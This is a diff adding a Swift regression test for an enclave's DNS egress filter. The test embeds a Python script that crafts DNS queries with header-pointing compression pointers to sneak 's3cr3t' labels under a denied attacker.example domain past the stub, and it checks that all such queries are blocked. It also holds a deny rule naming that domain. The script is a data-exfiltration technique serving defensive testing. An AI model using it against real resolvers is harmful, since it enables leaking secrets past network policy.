@@ -116,6 +116,91 @@ import TestSupport
         #expect(!parentLog.contains(" 0 forwarded"), "\(parentLog)")
     }
 
+    /// The attack an adversarial review found: a query whose question ends in a compression
+    /// pointer into the header. The stub read one name there (an allowed one, with an extra
+    /// label taken from the id), rewrote the id, and a resolver following the pointer read
+    /// another: with the id's high byte now 0, the denied name itself. 300 such queries, one
+    /// for each id the stub could give them, and none of the names may reach dnsmasq; then the
+    /// same denied name sent straight to the parent's DNS port, as an enclave whose stub was
+    /// bypassed would, is refused there by the same rule.
+    static let pointerAttack = """
+        import socket, struct, sys
+        counts = {}
+        for n in range(300):
+            # id: high byte 1 (a one-byte label follows), low byte "z"; flags 0 end that label.
+            head = struct.pack(">BBHHHHH", 1, ord("z"), 0x0000, 1, 0, 0, 0)
+            labels = b"".join(bytes([len(p)]) + p for p in [b"s3cr3t-%04d" % n, b"attacker", b"example"])
+            query = head + labels + b"\\xc0\\x00" + struct.pack(">HH", 1, 1)
+            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+            s.settimeout(5)
+            s.sendto(query, ("127.0.0.1", 53))
+            try:
+                rcode = s.recv(4096)[3] & 15
+            except socket.timeout:
+                rcode = "timeout"
+            counts[rcode] = counts.get(rcode, 0) + 1
+        print(" ".join("rcode=%s:%d" % (k, v) for k, v in sorted(counts.items(), key=str)))
+        """
+
+    @Test func aQuestionPointingIntoTheHeaderNeverCarriesADeniedNameOut() throws {
+        let out = scratch.path + "/out"
+        try FileManager.default.createDirectory(atPath: out, withIntermediateDirectories: true)
+        let config = try scratch.write("boot.json", """
+            {"version": 1,
+             "egress": {"port": 3128, "vsock_port": 8001, "allow": ["198.18.0.0/15", "**.example.test"], "deny": ["**.attacker.example"]},
+             "dns": {"vsock_port": 8053}}
+            """)
+        let attack = try scratch.write("attack.py", Self.pointerAttack)
+        let query = try scratch.write("query.py", Self.rawQuery)
+        let dnsmasqLog = scratch.path + "/dnsmasq.log"
+        let parent = try Sandbox.startParent(["--config", config], hostsFile: try Sandbox.privateHostsFile(),
+                                             environment: ["ENCLAVE_INIT_VSOCK_DIR": vsock], ownNetwork: true,
+                                             prelude: "dnsmasq --keep-in-foreground --no-resolv --no-hosts --listen-address=127.0.0.1 --bind-interfaces "
+                                                + "--user=root --pid-file=\(scratch.path)/dnsmasq.pid --log-queries --log-facility=\(dnsmasqLog) "
+                                                + "--host-record=api.example.test,198.18.0.10 &")
+        defer {
+            kill(parent.pid, SIGKILL)
+            if let text = try? String(contentsOfFile: scratch.path + "/dnsmasq.pid", encoding: .utf8),
+               let pid = pid_t(text.trimmingCharacters(in: .whitespacesAndNewlines)) { kill(pid, SIGKILL) }
+        }
+        #expect(eventually { parent.stderrSoFar.contains("listening: dns") }, "\(parent.stderrSoFar)")
+        #expect(eventually { FileManager.default.fileExists(atPath: scratch.path + "/dnsmasq.pid") })
+
+        let app = "python3 \(attack) > \(out)/attack 2>&1; python3 \(query) api.example.test 1 > \(out)/api"
+        let enclave = try Sandbox.start(.pid1, ["--config", config, "--", "/bin/sh", "-c", app], environment: ["ENCLAVE_INIT_VSOCK_DIR": vsock],
+                                        resolvConf: try Sandbox.privateResolvConf())
+        let result = enclave.wait(timeout: .seconds(90))
+        Sandbox.expectEnded(result, .pid1, withCode: 0)
+        // Every crafted query is answered FORMERR by the stub; an honest one still resolves.
+        #expect(scratch.text("out/attack") == "rcode=1:300\n", "\(scratch.text("out/attack"))\n\(result?.stderr ?? "")")
+        #expect(scratch.text("out/api") == "rcode=0 198.18.0.10\n", "\(scratch.text("out/api"))")
+
+        // The parent half, asked directly (a stub bypassed): the denied name is refused there,
+        // and a compressed question is a format error there too.
+        func askParent(_ question: [UInt8]) throws -> UInt8 {
+            let socket = try BlockingSocket.connect(unixPath: vsock + "/3-8053")
+            let message: [UInt8] = [0x12, 0x34, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0] + question + [0, 1, 0, 1]
+            try socket.writeAll([UInt8(message.count >> 8), UInt8(message.count & 0xFF)] + message)
+            var answer: [UInt8] = []
+            while answer.count < 2 + 12 {
+                let chunk = try socket.read(upTo: 2 + 12 - answer.count)
+                guard !chunk.isEmpty else { throw BlockingSocket.Failure.system("the parent closed without an answer", 0) }
+                answer += chunk
+            }
+            return answer[5] & 0x0F
+        }
+        let denied: [UInt8] = [6] + Array("s3cr3t".utf8) + [8] + Array("attacker".utf8) + [7] + Array("example".utf8) + [0]
+        #expect(try askParent(denied) == 5, "REFUSED by the parent's own check")
+        #expect(try askParent([3] + Array("api".utf8) + [0xC0, 0x00]) == 1, "FORMERR for a pointer in the question")
+
+        let asked = (try? String(contentsOfFile: dnsmasqLog, encoding: .utf8)) ?? ""
+        #expect(asked.contains("query[A] api.example.test"), "\(asked)")
+        #expect(!asked.contains("attacker") && !asked.contains("s3cr3t"), "\(asked)")
+        kill(parent.pid, SIGTERM)
+        let parentLog = parent.wait(timeout: .seconds(10))?.stderr ?? ""
+        #expect(parentLog.contains("refused s3cr3t.attacker.example from the enclave, which its stub should have refused"), "\(parentLog)")
+    }
+
     /// Without an egress policy the app keeps vsock (and no filter is installed).
     @Test func withoutEgressTheAppIsNotFiltered() throws {
         let out = scratch.path + "/out"
